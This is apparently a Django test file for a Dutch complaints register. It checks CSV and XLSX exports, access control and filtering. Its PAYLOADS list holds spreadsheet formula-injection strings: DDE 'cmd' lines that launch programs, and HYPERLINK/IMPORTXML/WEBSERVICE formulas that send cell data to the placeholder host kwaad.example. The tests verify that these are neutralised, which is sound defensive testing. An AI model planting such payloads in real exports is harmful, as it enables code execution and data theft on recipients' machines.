"""The register: what it holds, who sees which cases, and that its files are inert and whole (G12)."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.test import Client
from django.utils import timezone
from pytest_django import DjangoAssertNumQueries

from complaints.actions import link_respondent, perform
from complaints.demo.paths import ways
from complaints.desk.spreadsheets import Table, as_csv, as_xlsx
from complaints.models import Case, Letter, Membership, Party, Reading
from complaints.queries import register as query
from procedures.models import Organisation
from procedures.scoping import scope
from tests.complaints.desk.phases import SHEET, Walk
from tests.complaints.factories import SLUGS, account, actor_of, definition, filed_case, member, published, staffed

SignedIn = Callable[[Membership], Client]

REGISTER, EXPORT = "/beheer/register/", "/beheer/register/uitvoer/"
QUERIES = 34
VERDICT_OF_TWO = "Wat is het oordeel? (Stuur het besluit)"  # the committee is asked for one in the same words
NOW = datetime(2026, 11, 20, 9, 15, tzinfo=UTC)
S = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://kwaad.example/?x=\"&A1,\"klik\")",
    "=IMPORTXML(CONCAT(\"https://kwaad.example/?v=\",A1),\"//a\")",
    "=WEBSERVICE(\"https://kwaad.example/\"&A2)",
    "{=SUM(A1:A9)}",
    "==1",
    "+1+1",
    "+31 6 12345678",
    "+cmd|' /C notepad'!A0",
    "-1+1",
    "- eerste punt\n- tweede punt",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\"=1+1\"",
    "\";=1+1;\"",
    "a\";=cmd|' /C calc'!A0;\"b",
    "regel een\n=2+2\nregel drie",
    "DDE(\"cmd\";\"/C calc\";\"x\")",
    "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"",
    "<r><t>x</t></r></si><si><t>ingevoegd</t></si><si><r></r>",
    "<r>& kapot </r>",
    "_x0041_ en \x07 en \x1f",
    "http://kwaad.example/",
    "1-2",
    "007",
    "é" * 40_000,
    "😀" * 20_000,
    "=" + "lang " * 9_000,
]  # fmt: skip


def sheets_of(content: bytes) -> dict[str, list[list[object]]]:
    """The sheets of a workbook as another program reads them: texts, and days as dates. Fails on a formula."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        texts = [_text(each) for each in _parsed(archive.read("xl/sharedStrings.xml"))]
        names = [each.attrib["name"] for each in _parsed(archive.read("xl/workbook.xml")).iter(f"{S}sheet")]
        found = {}
        for number, name in enumerate(names, start=1):
            root = _parsed(archive.read(f"xl/worksheets/sheet{number}.xml"))
            assert not list(root.iter(f"{S}f")), "a formula"
            assert not list(root.iter(f"{S}hyperlink")), "a link"
            found[name] = [[_cell(each, texts) for each in row] for row in root.iter(f"{S}row")]
        assert not [each for each in archive.namelist() if "externalLink" in each or "vba" in each.lower()]
    return found


def _parsed(document: bytes) -> ET.Element:
    return ET.fromstring(document)  # noqa: S314  # our own file


def _text(element: ET.Element) -> str:
    """As Excel shows it: `_x0007_` stands for a control character."""
    raw = "".join(each.text or "" for each in element.iter(f"{S}t"))
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda found: chr(int(found[1], 16)), raw)


def _cell(element: ET.Element, texts: list[str]) -> object:
    value = element.find(f"{S}v")
    if value is None or value.text is None:
        return ""
    if element.attrib.get("t") == "s":
        return texts[int(value.text)]
    return date(1899, 12, 30) + timedelta(days=int(value.text))


def csv_of(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def lines(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\r", "\n")


# --- Inert and whole --------------------------------------------------------------------------------------------------


def test_payloads_are_texts_in_a_workbook_and_nothing_is_cut():
    assert len(PAYLOADS) >= 30
    rows: list[list[str | date]] = [[f"KO-{number}", text, date(2026, 11, 20)] for number, text in enumerate(PAYLOADS)]
    found = sheets_of(as_xlsx(Table("Klachtenregister", ["Nummer", "Klacht", "Dag"], rows), at=NOW))
    table, long = found["Klachtenregister"], found["Lange teksten"]
    assert table[0] == ["Nummer", "Klacht", "Dag"]
    assert len(table) == len(PAYLOADS) + 1
    for number, text in enumerate(PAYLOADS):
        reference, cell, day = table[number + 1]
        assert (reference, day) == (f"KO-{number}", date(2026, 11, 20))
        if len(text.encode("utf-16-le")) // 2 > 32_767:
            assert str(cell).startswith("Deze tekst is te lang"), cell
            cell = "".join(str(row[2]) for row in long if row[0] == f"B{number + 2}")
        assert cell == ("'" if text.startswith("<r>") else "") + lines(text), number


def test_no_piece_of_a_long_text_is_longer_than_a_cell():
    rows = [["😀" * 50_000], ["a" * 100_001]]
    found = sheets_of(as_xlsx(Table("Klachtenregister", ["Klacht"], rows), at=NOW))
    pieces = [str(row[2]) for row in found["Lange teksten"]]
    assert max(len(each.encode("utf-16-le")) // 2 for each in pieces) <= 32_767
    assert "".join(pieces) == rows[0][0] + rows[1][0]


def test_payloads_in_a_csv_never_begin_as_a_formula_and_nothing_is_cut():
    rows: list[list[str | date]] = [[text, date(2026, 3, 5)] for text in PAYLOADS]
    found = csv_of(as_csv(Table("Klachtenregister", ["=Klacht", "Dag"], rows)))
    assert found[0] == ["'=Klacht", "Dag"]
    assert len(found) == len(PAYLOADS) + 1
    for text, (cell, day) in zip(PAYLOADS, found[1:], strict=True):
        assert day == "05-03-2026"
        assert cell.removeprefix("'") == lines(text)
        assert not re.match(r"[\s\u00a0]*[=+\-@＝＋－＠]|[\t\r\n]", cell), cell[:20]
    assert found[PAYLOADS.index("1-2") + 1][0] == "1-2"


def test_days_before_excel_knows_any_are_texts():
    found = sheets_of(as_xlsx(Table("Klachtenregister", ["Dag"], [[date(202, 11, 4)], [date(1900, 3, 1)]]), at=NOW))
    assert found["Klachtenregister"] == [["Dag"], ["04-11-0202"], [date(1900, 3, 1)]]


# --- What it holds ----------------------------------------------------------------------------------------------------


@pytest.fixture
def case(organisation: Organisation, people: dict[str, Membership]) -> Case:
    """A decided case, whose complainant knows how to write formulas."""
    case = filed_case(organisation, at=NOW, name="=Jolanda Verweij", subject="+Factuur", description="-")
    with scope(organisation.pk):
        Party.objects.filter(case=case).update(organisation_name="@Wilgenroos")
        csm = actor_of(people["csm"], case)
        perform(case, "acknowledge", answers={}, actor=csm, at=NOW)
        perform(case, "assign", answers={"handler": str(people["handler"].pk)}, actor=csm, at=NOW)
    return case


@pytest.mark.django_db
@pytest.mark.rule("KO-14")
def test_file_holds_the_columns_that_the_procedure_names(
    case: Case, organisation: Organisation, people: dict[str, Membership], signed_in: SignedIn
):
    with scope(organisation.pk):
        Membership.objects.filter(pk=people["handler"].pk).update(function="Klachtenfunctionaris")
    client = signed_in(people["csm"])
    answer = client.post(EXPORT, {"form": "xlsx"})
    (head, row) = sheets_of(answer.content)["Klachtenregister"]
    found = dict(zip(head, row, strict=True))
    assert list(found) == [
        "Nummer",
        "Ontvangen op",
        "Indiener",
        "Organisatie van de indiener",
        "Onderwerp",
        "Spoor",
        "Hoe ingediend",
        "Behandelaar",
        "Fase",
        "Wat is het oordeel?",
        "Besluit op",
        "Maatregelen",
        "Afgesloten op",
    ]
    assert found["Nummer"] == case.reference
    assert found["Ontvangen op"] == date(2026, 11, 20)
    assert found["Indiener"] == "=Jolanda Verweij"
    assert found["Onderwerp"] == "+Factuur"
    assert found["Behandelaar"] == f"{people['handler'].name} (Klachtenfunctionaris)"
    assert (found["Besluit op"], found["Afgesloten op"]) == ("", "")
    assert "no-store" in answer["Cache-Control"]
    assert answer["Content-Disposition"].startswith('attachment; filename="klachtenregister-klik-onderwijs-')
    (_head, plain) = csv_of(client.post(EXPORT, {"form": "csv"}).content)
    assert plain[:5] == [case.reference, "20-11-2026", "'=Jolanda Verweij", "'@Wilgenroos", "'+Factuur"]


@pytest.mark.django_db
@pytest.mark.parametrize("slug", SLUGS)
def test_register_of_each_procedure_can_be_made(slug: str, signed_in: SignedIn):
    organisation = published(slug)
    people = staffed(organisation)
    case = filed_case(organisation, at=NOW)
    clerk = next(
        each for each in people.values() if signed_in(each).get(REGISTER).content.decode().count(case.reference)
    )
    head, row = csv_of(signed_in(clerk).post(EXPORT, {"form": "csv"}).content)
    found = dict(zip(head, row, strict=True))
    assert found["Nummer"] == case.reference
    assert found["Indiener"] == "Jolanda Verweij"
    assert found["Ontvangen op"] == "20-11-2026"


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("slug", "phase", "named"),
    [
        pytest.param(
            "klassepro",
            "decided",
            [
                "Wat is er gebeurd?",
                "Ontvangen op",
                "Over wie",
                "Behandelaar",
                "Wat is het oordeel? (Stuur het besluit)",
            ],
            marks=[pytest.mark.rule("KP-03"), pytest.mark.rule("KP-05")],
        ),
        pytest.param(
            "klikklaar",
            "closed",
            [
                *("Indiener", "Adres", "Postcode", "Woonplaats", "Onderwerp", "Ontvangen op", "Over wie", "Brieven"),
                *("Fase", "Besluit op", "Afgesloten op", "Afloop", "Wat is het oordeel?"),
                "Om welke producten of diensten gaat het?",
            ],
            marks=pytest.mark.rule("KK-11"),
        ),
        pytest.param(
            "o21", "rejected", ["Nummer", "Ontvangen op", "Fase", "Waarom niet?"], marks=pytest.mark.rule("O21-19")
        ),
        pytest.param("klimkoord", "formal_closed", ["Nummer", "Spoor", "Fase", "Afloop", "Afgesloten op"]),
    ],
)
def test_register_tells_what_the_source_wants_to_have_in_it(
    slug: str, phase: str, named: list[str], signed_in: SignedIn, media_folder: Path
):
    organisation = published(slug)
    people = staffed(organisation)
    with scope(organisation.pk):
        Membership.objects.update(function="Adviseur")
        default_storage.save(SHEET, ContentFile(b"%PDF-1.7"))
        for case in Walk(organisation, people).steps(ways(definition(slug))[phase], ends_at=timezone.now()):
            reached = case
        if not reached.parties.filter(kind=Party.Kind.RESPONDENT).exists():
            Party.objects.create(case=reached, kind=Party.Kind.RESPONDENT, name="Pieter Hoekstra")
        Letter.objects.filter(case=reached).update(state=Letter.State.SENT, sent_at=timezone.now())
    administers = next(each.name for each in definition(slug).roles if each.is_administrator)
    head, row = csv_of(signed_in(people[administers]).post(EXPORT, {"form": "csv"}).content)
    found = dict(zip(head, row, strict=True))
    assert len(found) == len(head), "two columns with the same heading"
    assert [each for each in named if not found[each]] == []


@pytest.mark.django_db
def test_each_case_of_an_export_is_noted_as_read(
    case: Case, organisation: Organisation, people: dict[str, Membership], signed_in: SignedIn
):
    filed_case(organisation, at=datetime(2027, 6, 1, tzinfo=UTC))
    client = signed_in(people["csm"])
    client.get(REGISTER)
    with scope(organisation.pk):
        assert not Reading.objects.exists()
    for _ in range(2):
        client.post(EXPORT, {"form": "csv", "year": "2026"})
    with scope(organisation.pk):
        noted = list(Reading.objects.values_list("case__reference", "member", "what"))
    assert noted == [(case.reference, people["csm"].pk, "export")] * 2


@pytest.mark.django_db
def test_filters_by_year_and_state(organisation: Organisation, people: dict[str, Membership], signed_in: SignedIn):
    newyear = datetime(2026, 12, 31, 23, 30, tzinfo=UTC)  # 2027 already, in the organisation's zone
    old = filed_case(organisation, at=newyear - timedelta(hours=2))
    new = filed_case(organisation, at=newyear)
    with scope(organisation.pk):
        Case.objects.filter(pk=old.pk).update(closed_at=NOW)
    client = signed_in(people["csm"])

    def shown(asked: str) -> list[str]:
        return re.findall(
            r'class="ref" href="/beheer/zaken/([^/]+)/"', client.get(f"{REGISTER}{asked}").content.decode()
        )

    assert shown("") == [new.reference, old.reference]
    assert shown("?year=2027") == [new.reference]
    assert shown("?year=2026") == [old.reference]
    assert shown("?state=open") == [new.reference]
    assert shown("?state=closed") == [old.reference]
    assert shown("?year=2025") == []
    assert shown("?year=9999&state=x&p=zz") == [new.reference, old.reference]
    assert (
        '<option value="2027">2027</option><option value="2026">2026</option>' in client.get(REGISTER).content.decode()
    )


@pytest.mark.django_db
def test_screen_has_pages_and_shortens_long_texts(
    organisation: Organisation, people: dict[str, Membership], signed_in: SignedIn, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setattr(query, "PER_PAGE", 2)
    for number in range(3):
        filed_case(organisation, at=NOW + timedelta(minutes=number), subject="School " * 25)
    first = signed_in(people["csm"]).get(f"{REGISTER}?state=open").content.decode()
    assert first.count('class="ref"') == 2
    assert 'href="?state=open&amp;p=2"' in first
    assert "School " * 25 not in first
    assert signed_in(people["csm"]).get(f"{REGISTER}?state=open&p=2").content.decode().count('class="ref"') == 1


# --- Who sees what ----------------------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_respondent_finds_no_case_about_them_in_page_or_file(
    case: Case, organisation: Organisation, people: dict[str, Membership], signed_in: SignedIn
):
    about = member(organisation, "Tom Rietveld", "csm")
    with scope(organisation.pk):
        party = Party.objects.create(case=case, kind=Party.Kind.RESPONDENT, name="Tom Rietveld")
        link_respondent(case, party, about, actor=actor_of(people["csm"], case), at=NOW)
    client = signed_in(about)
    assert case.reference not in client.get(REGISTER).content.decode()
    for form in ("csv", "xlsx"):
        content = client.post(EXPORT, {"form": form}).content
        rows = csv_of(content) if form == "csv" else sheets_of(content)["Klachtenregister"]
        assert len(rows) == 1
    with scope(organisation.pk):
        assert not Reading.objects.exists()


@pytest.mark.django_db
def test_member_with_roles_per_case_takes_along_only_their_own(
    case: Case, organisation: Organisation, people: dict[str, Membership], signed_in: SignedIn
):
    filed_case(organisation, at=NOW)
    _head, row = csv_of(signed_in(people["handler"]).post(EXPORT, {"form": "csv"}).content)
    assert row[0] == case.reference


@pytest.mark.django_db
def test_export_asks_once_more_who_you_are(case: Case, organisation: Organisation, people: dict[str, Membership]):
    client = Client()
    client.force_login(people["csm"].user)
    asked = client.post(EXPORT, {"form": "csv", "state": "open"})
    assert (asked.status_code, case.reference in asked.content.decode()) == (403, False)
    with scope(organisation.pk):
        assert not Reading.objects.exists()
    done = client.post(EXPORT, {"form": "csv", "state": "open", "again-password": "een lang wachtwoord"})
    assert csv_of(done.content)[1][0] == case.reference


@pytest.mark.django_db
def test_stranger_and_other_forms_get_nothing(case: Case, people: dict[str, Membership], signed_in: SignedIn):
    stranger = Client()
    stranger.force_login(account("Vreemde Vogel"))
    answer = stranger.post(EXPORT, {"form": "csv"})
    assert (answer.status_code, case.reference in answer.content.decode()) == (403, False)
    client = signed_in(people["csm"])
    assert client.get(EXPORT).status_code == 405
    assert client.post(EXPORT, {"form": "ods"}).status_code == 400


@pytest.mark.django_db
def test_register_costs_the_same_for_one_case_and_thirty(
    organisation: Organisation,
    people: dict[str, Membership],
    signed_in: SignedIn,
    django_assert_num_queries: DjangoAssertNumQueries,
):
    client = signed_in(people["csm"])
    filed_case(organisation, at=NOW)
    client.get(REGISTER)
    for extra in (0, 29):
        for number in range(extra):
            filed_case(organisation, at=NOW + timedelta(minutes=number))
        with django_assert_num_queries(QUERIES):
            assert client.get(REGISTER).content.decode().count('class="ref"') == 1 + extra
